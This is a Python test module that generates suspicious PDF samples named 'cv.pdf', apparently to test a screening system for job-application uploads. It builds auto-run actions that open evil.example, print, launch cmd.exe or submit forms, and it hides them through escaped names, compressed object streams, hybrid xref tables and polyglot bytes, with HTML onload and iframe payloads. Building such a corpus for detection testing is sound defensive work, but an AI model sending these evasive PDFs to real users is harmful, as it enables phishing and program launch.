"""PDFs that act by themselves, or hide what acts: each in a way of its own."""

import struct
import zlib
from collections.abc import Iterator

from tests.applicants.documents import corpus_files as parts
from tests.applicants.documents.corpus_sly_pdf import CATALOG, HEAD, PAGE, PAGES, SCRIPT, updated

WEB = "<< /S /URI /URI (https://evil.example/seen) >>"
PRINT = "<< /S /Named /N /Print >>"
GO = "/S /GoTo /D [3 0 R /Fit]"
LAUNCH = "<< /S /Launch /F (cmd.exe) >>"
NOTE = "/Type /Annot /Rect [0 0 9 9]"


def opening() -> Iterator[tuple[str, bytes]]:
    """Yield files that open a web page, or print, as soon as they are opened."""
    for what, action in (
        ("web page", WEB),
        ("printing", PRINT),
        ("escaped name", "<< /#53 /#55RI /URI (x) >>"),
    ):
        yield f"{what}, direct", parts.pdf(catalog=f"/OpenAction {action}")
        yield f"{what}, by number", parts.pdf(catalog="/OpenAction 5 0 R", more=(action.encode(),))
        yield f"{what}, in a list", parts.pdf(catalog=f"/OpenAction [{action}]")
        yield f"{what}, next", parts.pdf(catalog=f"/OpenAction << {GO} /Next {action} >>")
        yield (
            f"{what}, next but one",
            parts.pdf(catalog=f"/OpenAction << {GO} /Next [<< {GO} /Next [{action}] >>] >>"),
        )
        yield f"{what}, packed", parts.packed_pdf(action, catalog="/OpenAction 4 0 R")
        yield f"{what}, under an escaped key", parts.packed_pdf(action, catalog="/Op#65nAction 4 0 R")
        yield f"{what}, added", updated(parts.pdf(), {1: CATALOG % f"/OpenAction {action}".encode()})
    chain = [f"<< {GO} /Next {number} 0 R >>".encode() for number in range(6, 206)]
    yield "after two hundred others", parts.pdf(catalog="/OpenAction 5 0 R", more=(*chain, WEB.encode()))
    yield "other pages by name", parts.pdf(catalog="/OpenAction << /S /Named /N /SaveAs >>")
    yield "with its kind elsewhere", parts.pdf(catalog="/OpenAction << /S 5 0 R /URI (x) >>", more=(b"/URI",))


def beside() -> Iterator[tuple[str, bytes]]:
    """Yield files that act when a page, a note, a field or the document is shown, left or printed."""
    for what, action in (("web page", WEB), ("printing", PRINT)):
        yield f"{what} with a page", parts.pdf(page=f"/AA << /O {action} >>")
        yield f"{what} after a page", parts.pdf(page="/AA 5 0 R", more=(f"<< /C {action} >>".encode(),))
        yield f"{what} at the end", parts.pdf(catalog=f"/AA << /WC {action} >>")
        yield (
            f"{what} with a note",
            parts.pdf(page=f"/Annots [<< {NOTE} /Subtype /Link /AA << /PV {action} >> >>]"),
        )
        field = f"<< {NOTE} /Subtype /Widget /FT /Tx /T (a) /AA << /Fo 5 0 R >> >>"
        yield (
            f"{what} in a field",
            parts.pdf(catalog=f"/AcroForm << /Fields [{field}] >>", more=(action.encode(),)),
        )
        yield f"{what} with a page, packed", parts.packed_pdf(f"<< /O {action} >>", catalog="/AA 4 0 R")
    yield "a page of notes", parts.pdf(page=f"/PresSteps << /NA {LAUNCH} >>")
    yield "a thread", parts.pdf(page="/B [5 0 R]", more=(f"<< /Type /Bead /A {LAUNCH} >>".encode(),))
    yield (
        "an outline that starts a program",
        parts.packed_pdf(
            "<< /First 5 0 R /Last 5 0 R /Count 1 >>",
            f"<< /Title (x) /Parent 4 0 R /A {LAUNCH} >>",
            catalog="/Outlines 4 0 R",
        ),
    )
    yield (
        "an outline of threads",
        parts.pdf(
            catalog="/Outlines 5 0 R",
            more=(b"<< /First 6 0 R /Last 6 0 R >>", b"<< /Title (x) /A << /S /Thread /F (x) /D 0 >> >>"),
        ),
    )
    yield (
        "scripts by name in kids",
        parts.packed_pdf(
            f"<< /Names [(a) {SCRIPT}] >>", catalog="/Names << /Java#53cript << /Kids [4 0 R] >> >>"
        ),
    )
    yield "a link without an action", parts.pdf(page=f"/Annots [<< {NOTE} /Subtype /Link /PA {LAUNCH} >>]")
    yield "a sender of forms", parts.packed_pdf("<< /S /SubmitForm /F (https://evil.example/) >>")
    yield "a file in a packed note", parts.packed_pdf(f"<< {NOTE} /Subtype /FileAttachment /FS 3 0 R >>")


def hidden() -> Iterator[tuple[str, bytes]]:
    """Yield files of two minds: other bytes around them, other tables, web pages in them."""
    clean = parts.pdf()
    yield "blanks before it", b" \n" * 6 + clean
    yield "bytes before it", b"GIF89a" + clean
    yield "bytes behind it", clean + b"A" * 40
    yield "a web page behind it", clean + b"<html/onload=alert(1)>"
    yield "a web page in its title", parts.pdf(catalog="/X (<html/onload=alert\\(1\\)>)")
    yield "a web page in a stream", parts.pdf(more=(parts.stream(b"<HTML/onload=alert(1)>"),))
    yield "a frame in a stream", parts.pdf(more=(parts.stream(b"<iframe/src=//evil.example>"),))
    yield "two tables", hybrid(f"<< /Type /Catalog /Pages 2 0 R /OpenAction {WEB} >>")
    yield (
        "two tables, of which one starts a program",
        hybrid(f"<< /Type /Catalog /Pages 2 0 R /OpenAction << {GO} /Next {LAUNCH} >> >>"),
    )
    yield "an action in an unused object", parts.packed_pdf(LAUNCH)
    yield "an action in a stream's words", parts.pdf(more=(parts.stream(b"", f"/A {LAUNCH}"),))
    yield (
        "an action behind the table",
        clean.replace(b"startxref", f"9 0 obj\n{LAUNCH}\nendobj\nstartxref".encode()),
    )
    yield "an action in the trailer", clean.replace(b"/Root", f"/X {SCRIPT} /Root".encode())
    yield "a lock", clean.replace(b"/Root", b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 >> /Root")
    yield "a collection", parts.packed_pdf(catalog="/Collection << /View /H >>")


def hybrid(catalog: str) -> bytes:
    """Return a PDF whose catalog is a plain one by its table, and another in a stream for newer readers."""
    out, places = bytearray(HEAD), []
    for number, body in enumerate((CATALOG % b"", PAGES, PAGE), start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at, packed = len(out), zlib.compress(b"1 0 " + catalog.encode())
    out += b"4 0 obj\n%s\nendobj\n" % parts.stream(packed, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    second, table = len(out), struct.pack(">BHH", 2, 4, 0) + struct.pack(">BHH", 1, at, 0)
    out += b"5 0 obj\n%s\nendobj\n" % parts.stream(
        table, "/Type /XRef /Size 6 /W [1 2 2] /Index [1 1 4 1] /Root 1 0 R"
    )
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n2 2\n"
    out += b"".join(b"%010d 00000 n \n" % place for place in places[1:])
    out += b"trailer\n<< /Size 6 /Root 1 0 R /XRefStm %d >>\n" % second
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def pdfs() -> Iterator[tuple[str, str, bytes]]:
    """Yield every one as (what, name, bytes)."""
    for source in (opening, beside, hidden):
        for what, body in source():
            yield f"{source.__name__}: {what}", "cv.pdf", body
